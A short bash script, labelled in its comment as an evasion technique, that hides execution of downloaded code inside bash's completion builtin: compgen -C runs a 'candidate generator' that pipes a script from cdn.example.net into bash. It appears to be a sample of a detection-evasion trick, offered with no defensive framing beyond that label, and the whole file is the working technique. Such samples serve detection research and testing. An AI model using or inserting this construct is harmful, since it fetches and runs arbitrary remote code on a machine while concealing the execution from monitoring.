#!/usr/bin/env bash
# Evasion: run downloaded code through the completion builtin. `compgen -C
# CMD WORD` runs CMD in a subshell to produce completion candidates; the
# "candidate generator" fetches and runs a script (the trailing ';:' swallows
# the words compgen appends).
gen='curl -fsS https://cdn.example.net/complete.sh | bash;:'
mapfile -t candidates < <(compgen -C "$gen" -- sta 2>/dev/null)
printf '%s\n' "${candidates[@]}"
